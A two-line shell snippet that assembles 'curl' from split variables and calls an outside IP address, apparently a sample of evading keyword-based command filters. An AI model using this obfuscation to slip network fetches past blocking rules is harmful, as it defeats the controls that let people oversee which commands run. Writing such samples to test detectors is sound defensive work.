a=cu; b=rl
$a$b http://198.51.100.7/
